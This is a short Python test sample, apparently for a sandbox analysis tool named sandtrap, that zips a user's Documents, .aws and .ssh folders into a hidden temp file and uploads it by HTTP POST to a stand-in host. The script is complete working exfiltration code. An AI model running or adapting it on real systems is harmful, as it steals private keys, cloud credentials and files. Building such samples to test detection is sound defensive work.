#!/usr/bin/python3
# Collection and exfiltration with a library: zipfile of ~/Documents, ~/.aws and ~/.ssh, uploaded with an HTTP POST.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
import os, urllib.request, zipfile

arc = "/tmp/.cache.zip"
with zipfile.ZipFile(arc, "w", zipfile.ZIP_DEFLATED) as z:
    for top in ("Documents", ".aws", ".ssh"):
        for root, _, files in os.walk(os.path.join("/home/dmitchell", top)):
            for f in files:
                z.write(os.path.join(root, f))
data = open(arc, "rb").read()
req = urllib.request.Request("http://files.exfil.example/upload", data=data,
                             headers={"Content-Type": "application/zip"})
try:
    print(urllib.request.urlopen(req, timeout=3).status)
except Exception as err:
    print("upload:", err)
os.unlink(arc)
